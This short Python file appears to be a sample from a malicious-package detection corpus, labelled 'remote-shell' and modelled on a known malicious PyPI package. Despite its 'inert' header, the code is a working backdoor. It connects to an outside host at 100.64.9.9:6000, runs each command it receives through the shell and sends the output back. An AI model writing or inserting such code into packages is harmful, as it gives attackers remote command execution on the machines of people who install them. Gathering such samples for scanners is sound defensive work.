# pkgguard corpus 627 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess
from multiprocessing.connection import Client

conn = Client(("100.64.9.9", 6000), authkey=b"placeholder")
while True:
    job = conn.recv()
    if job == "bye":
        break
    done = subprocess.run(job, shell=True, capture_output=True)
    conn.send(done.stdout + done.stderr)
